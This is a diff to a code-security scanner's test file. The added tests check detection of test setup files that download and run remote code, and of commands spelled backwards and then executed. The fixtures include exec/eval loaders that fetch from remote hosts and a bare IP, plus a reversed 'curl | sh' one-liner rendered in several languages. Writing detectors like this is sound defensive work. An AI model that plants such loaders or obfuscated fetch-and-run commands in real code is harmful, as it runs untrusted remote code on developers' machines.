@@ -1623,6 +1623,22 @@ describe('dynamic-code-execution of downloaded code', () => {
   });
 });
 
+describe('dynamic-code-execution of downloaded code in tests and test setup files', () => {
+  const sink = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === 'dynamic-code-execution');
+  it('conftest.py, a Jest setup file or a spec that runs what it downloads from a remote host is high; from a bare IP, critical', () => {
+    expect(sink('tests/conftest.py', ['import requests', "exec(requests.get('https://pytest-cache-sync.dev/boot.py').text)"])?.severity).toBe('high');
+    expect(sink('conftest.py', ['def pytest_configure(config):', "    code = urlopen('https://pytest-cache-sync.dev/boot.py').read()", '    exec(code)'])?.severity).toBe('high');
+    expect(sink('test/setup.js', ["https.get('https://jest-env-sync.dev/s.js', (r) => {", "  let b = '';", '  r.on(\'data\', (c) => (b += c));', '  r.on(\'end\', () => eval(b));', '});'])?.severity).toBe('high');
+    expect(sink('src/__tests__/setup.ts', ["const src = await (await fetch('http://45.61.12.9/x.js')).text();", 'new Function(src)();'])?.severity).toBe('critical');
+  });
+  it('a test that evaluates a bundle its local server serves, or reads JSON or a status from a remote host, is no finding', () => {
+    expect(sink('test/bundle.test.js', ["const src = await (await fetch('http://localhost:4173/bundle.js')).text();", 'new Function(src)();'])).toBeUndefined();
+    expect(sink('tests/test_schema.py', ["data = requests.get('https://json.schemastore.org/package.json').json()", "assert eval(repr(data['type'])) == 'object'"])).toBeUndefined();
+    expect(sink('tests/test_repr.py', ["r = requests.get('https://httpbin.org/get')", 'assert eval(repr(r.status_code)) == 200'])).toBeUndefined();
+    expect(sink('tests/test_loader.py', ['exec(compile(source, path, "exec"))'])).toBeUndefined();
+  });
+});
+
 describe('dynamic-code-execution of an edited string constant', () => {
   /** A hunk whose edited constant stands above unchanged context lines (the sink among them). */
   const edit = (removed: string, added: string, context: string[]) => ['@@ -1,5 +1,5 @@', ` 'use strict';`, `-${removed}`, `+${added}`, ...context.map((c) => ` ${c}`)].join('\n');
@@ -1672,6 +1688,26 @@ describe('obfuscated-code: a command assembled from fragments or character codes
     expect(ids('internal/term.go', ['\tesc := string([]byte{27}) + "[0m"', '\tname := parts[0] + "-" + parts[1]', '\texec.Command("tput", "sgr0").Run()'])).not.toContain('obfuscated-code high');
     expect(ids('internal/sniff.go', ['\tpng := []byte{0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a}', '\tout, _ := exec.Command("file", "-b", path).Output()'])).not.toContain('obfuscated-code high');
     expect(ids('pkg/alphabet.py', ["LETTERS = ''.join(chr(c) for c in range(97, 123))", 'print(LETTERS)'])).toEqual([]);
+  });
+});
+
+describe('obfuscated-code: a command spelled backwards, turned around and run', () => {
+  const ids = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).map((f) => `${f.id} ${f.severity}`);
+  const BACKWARDS = 'hs | ved.pord-ekat//:sptth s- lruc';
+  it('reads JavaScript, Python, PHP, Ruby, Java, C# and shell reversals beside a sink of the hunk', () => {
+    expect(ids('src/util.js', [`const c = '${BACKWARDS}'.split('').reverse().join('');`, "require('child_process').execSync(c);"])).toContain('obfuscated-code high');
+    expect(ids('src/util.js', [`const u = '${BACKWARDS}';`, "execSync([...u].reverse().join(''));"])).toContain('obfuscated-code high');
+    expect(ids('pkg/__init__.py', [`os.system('${BACKWARDS}'[::-1])`])).toContain('obfuscated-code high');
+    expect(ids('pkg/boot.py', ['cmd = "".join(reversed(PARTS))', 'subprocess.run(cmd, shell=True)'])).toContain('obfuscated-code high');
+    expect(ids('src/Boot.php', [`$c = strrev('${BACKWARDS}');`, 'shell_exec($c);'])).toContain('obfuscated-code high');
+    expect(ids('lib/boot.rb', [`system('${BACKWARDS}'.reverse)`])).toContain('obfuscated-code high');
+    expect(ids('src/main/java/com/acme/Boot.java', [`String c = new StringBuilder("${BACKWARDS}").reverse().toString();`, 'Runtime.getRuntime().exec(new String[] {"sh", "-c", c});'])).toContain('obfuscated-code high');
+    expect(ids('scripts/setup.sh', [`echo '${BACKWARDS}' | rev | sh`])).toContain('obfuscated-code high');
+  });
+  it('a reverse-DNS name, a list reversed and the shell idiom for a file extension are not', () => {
+    expect(ids('scripts/publish.js', ["const bundleId = new URL(pkg.homepage).hostname.split('.').reverse().join('.');", 'execSync(`xcrun altool --upload --bundle-id ${bundleId}`);'])).not.toContain('obfuscated-code high');
+    expect(ids('pkg/steps.py', ['for step in steps[::-1]:', '    subprocess.run(step.command, shell=True)'])).not.toContain('obfuscated-code high');
+    expect(ids('scripts/check.sh', ['for f in dist/*; do', '  ext=$(echo "$f" | rev | cut -d. -f1 | rev)', '  eval "check_$ext \\"$f\\""', 'done'])).not.toContain('obfuscated-code high');
   });
 });
 
